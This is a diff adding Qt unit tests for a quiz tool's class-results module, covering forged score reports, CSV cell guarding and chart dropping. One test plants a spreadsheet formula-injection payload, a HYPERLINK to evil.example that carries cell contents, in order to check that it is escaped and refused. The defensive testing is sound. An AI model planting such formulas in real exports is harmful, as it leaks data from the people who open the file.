@@ -9,9 +9,11 @@
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QTemporaryDir>
 #include <QTest>
 
 #include <cmath>
+#include <functional>
 
 using namespace Qt::StringLiterals;
 using namespace ReportFixtures;
@@ -71,12 +73,16 @@ private slots:
     void handComputed();
     void againstIndependentImplementation();
     void leftOutWithReasons();
+    void forgedAgainstTheBank_data();
+    void forgedAgainstTheBank();
     void whichAttemptCounts_data();
     void whichAttemptCounts();
     void versionsAreNeverMixed();
     void jsonKeys();
     void gradebookForMoodle();
     void htmlEscapesAndFlags();
+    void classCsvGuardsEveryCell();
+    void readingDropsTheChart();
 };
 
 // Five students, three questions, worked by hand (the marks go to ItemStatistics directly):
@@ -218,6 +224,74 @@ void TestClassResults::leftOutWithReasons()
     QCOMPARE(reasons.at(4), u"good1-copy.json: the same attempt as good1.json, exported twice"_s);
 }
 
+// A report's digest is a plain SHA-256 that anyone can recompute, so a hand-in may name a known bank's version and list
+// other questions (reliability-3 F1: 20 questions against the bank's 8 read past the bank and crashed). It is left out
+// with the reason, before or after good reports, and the class is made of the rest.
+using Forge = std::function<void(ScoreReport &)>;
+Q_DECLARE_METATYPE(Forge)
+
+void TestClassResults::forgedAgainstTheBank_data()
+{
+    QTest::addColumn<Forge>("forge");
+    QTest::addColumn<QString>("reason");
+    const auto extraQuestions = [](int count) {
+        return [count](ScoreReport &report) {
+            const ReportQuestion last = report.questions.constLast();
+            for (int i = 0; i < count; ++i) {
+                ReportQuestion copy = last;
+                copy.number = int(report.questions.size()) + 1;
+                copy.id = u"forged-%1"_s.arg(i);
+                report.questions.append(copy);
+            }
+        };
+    };
+    QTest::newRow("20 questions for 8") << Forge(extraQuestions(12))
+                                        << u"it lists 20 questions, but the quiz version it names has 8"_s;
+    QTest::newRow("9 questions for 8") << Forge(extraQuestions(1))
+                                       << u"it lists 9 questions, but the quiz version it names has 8"_s;
+    QTest::newRow("7 questions for 8") << Forge([](ScoreReport &report) { report.questions.removeLast(); })
+                                       << u"it lists 7 questions, but the quiz version it names has 8"_s;
+    QTest::newRow("another question id")
+        << Forge([](ScoreReport &report) { report.questions[2].id = u"mine"_s; })
+        << u"its question 3 is \"mine\", but the quiz version it names has \"sqrt-n\" there"_s;
+    QTest::newRow("option past the question's")
+        << Forge([](ScoreReport &report) { report.questions[1].chosenOption = 9; })
+        << u"its answer to question 2 is option 10, but that question has 4 options"_s;
+    QTest::newRow("another key") << Forge([](ScoreReport &report) {
+        report.questions[0].correctOption = 3;
+        report.questions[0].chosenOption = 3;
+    }) << u"it gives option 4 as the key of question 1, but the quiz version it names has option 1"_s;
+}
+
+void TestClassResults::forgedAgainstTheBank()
+{
+    QFETCH(Forge, forge);
+    QFETCH(QString, reason);
+    const QuestionBank bank = loadBank(testBankPath());
+    QCOMPARE(bank.questions.at(2).id, u"sqrt-n"_s);
+    ScoreReport forged = studentReport(bank, answersFor({1, 1, 1}), 9);
+    forge(forged);
+    const ClassResults::Input forgedInput = input(forged, u"forged.json"_s);
+    QVERIFY2(forgedInput.report, qPrintable(forgedInput.report.error())); // the reader alone cannot tell
+    const ClassResults::Input good = input(studentReport(bank, answersFor({0, 1, 0}), 1), u"good.json"_s);
+
+    for (const QList<ClassResults::Input> &inputs : {QList{forgedInput, good}, QList{good, forgedInput}}) {
+        const ClassResults results = ClassResults::collect(inputs, {}, {bank});
+        QCOMPARE(results.students.size(), 1);
+        QCOMPARE(results.students.constFirst().source, u"good.json"_s);
+        QCOMPARE(results.questions.size(), bank.questions.size());
+        QCOMPARE(results.leftOut.size(), 1);
+        QCOMPARE(results.leftOut.constFirst().source, u"forged.json"_s);
+        QCOMPARE(results.leftOut.constFirst().reason, reason);
+    }
+    // Alone, it leaves an empty class rather than one built from it.
+    const ClassResults alone = ClassResults::collect({forgedInput}, {}, {bank});
+    QVERIFY(alone.students.isEmpty());
+    QVERIFY(alone.questions.isEmpty());
+    QVERIFY(alone.bankSha256.isEmpty());
+    QCOMPARE(alone.leftOut.size(), 1);
+}
+
 void TestClassResults::whichAttemptCounts_data()
 {
     QTest::addColumn<ClassResults::Which>("which");
@@ -345,6 +419,52 @@ void TestClassResults::htmlEscapesAndFlags()
     QVERIFY(html.contains(u"Worth a second look: facility outside 30–75%"_s)); // question 1: everyone right
     QVERIFY(html.contains(u"Misconception: "_s
                           + bank.questions.at(2).options.at(3).feedback.text(u"en"_s).toHtmlEscaped()));
+}
+
+// reliability-3 F4: the class CSV wrote the attempt id unguarded. The reader now refuses an id that is not a UUID;
+// the writer guards every cell whatever reached it.
+void TestClassResults::classCsvGuardsEveryCell()
+{
+    const QuestionBank bank = loadBank(testBankPath());
+    ScoreReport planted = studentReport(bank, answersFor({1, 0, 1}), 1);
+    planted.attemptId = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s;
+    planted.learnerName = u"@SUM(1,1)"_s;
+    const ClassResults results = ClassResults::collect({{u"-planted.json"_s, planted}}, {}, {bank});
+    QCOMPARE(results.students.size(), 1);
+    const QString csv = QString::fromUtf8(ClassReportWriter::csv(results)).remove(QChar(0xFEFF));
+    const QStringList lines = csv.split(u"\r\n"_s, Qt::SkipEmptyParts);
+    QCOMPARE(lines.size(), 2);
+    QVERIFY2(lines.at(1).startsWith(u"\"'@SUM(1,1)\",s1@example.org,'-planted.json,\"'=HYPERLINK("_s),
+             qPrintable(lines.at(1)));
+    // Through the file format, the reader refuses such an id before any writer sees it.
+    const ClassResults::Input read = input(planted, u"planted.json"_s);
+    QVERIFY(!read.report);
+    QVERIFY2(read.report.error().contains(u"$.attemptId: expected a UUID"_s), qPrintable(read.report.error()));
+}
+
+// reliability-3 F13: a class keeps its reports' answers, not their chart images (up to 32 MiB each, never shown in a
+// class view), and a cancelled reading returns what it has.
+void TestClassResults::readingDropsTheChart()
+{
+    const QuestionBank bank = loadBank(testBankPath());
+    ReportSimulatorSection simulator;
+    simulator.figures.append({u"Peak"_s, u"12"_s});
+    simulator.chartPng = QByteArray(100'000, 'p');
+    QTemporaryDir dir;
+    for (const QString &name : {u"a.json"_s, u"b.json"_s}) {
+        QFile file(dir.filePath(name));
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write(JsonReportWriter::write(report(bank, partialAnswers(), u"en"_s, simulator)));
+    }
+    const QList<ClassResults::Input> inputs = ClassResults::read({dir.path()});
+    QCOMPARE(inputs.size(), 2);
+    for (const ClassResults::Input &input : inputs) {
+        QVERIFY2(input.report, qPrintable(input.report.error()));
+        QVERIFY(input.report->simulator.chartPng.isEmpty());
+        QCOMPARE(input.report->simulator.figures.size(), 1);
+    }
+    const std::atomic_bool cancelled = true;
+    QVERIFY(ClassResults::read({dir.path()}, &cancelled).isEmpty());
 }
 
 QTEST_GUILESS_MAIN(TestClassResults)
